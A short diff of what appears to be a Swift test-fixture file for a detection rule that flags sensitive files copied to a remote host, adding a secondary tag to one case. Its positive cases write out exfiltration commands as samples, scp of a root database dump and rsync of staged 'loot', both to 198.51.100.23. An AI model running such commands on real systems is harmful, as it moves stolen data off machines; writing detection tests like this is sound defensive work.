@@ -45,7 +45,7 @@ extension Fixtures {
 
         RuleFixture("sensitive-files-copied-to-remote-host",
             positives: [
-                Case("scp of a database dump", Actor(Proc.line("/usr/bin/scp", "scp /root/shop.sql.gz x@198.51.100.23:/tmp/"), in: Trees.rootLogin).exec()),
+                Case("scp of a database dump", Actor(Proc.line("/usr/bin/scp", "scp /root/shop.sql.gz x@198.51.100.23:/tmp/"), in: Trees.rootLogin).exec(), also: ["tool-pushed-to-remote-temp"]),
                 Case("rsync of staged loot", Actor(Proc.line("/usr/bin/rsync", "rsync -az /dev/shm/.l/out.tgz 198.51.100.23:"), in: Trees.rootLogin).exec()),
             ],
             negatives: [
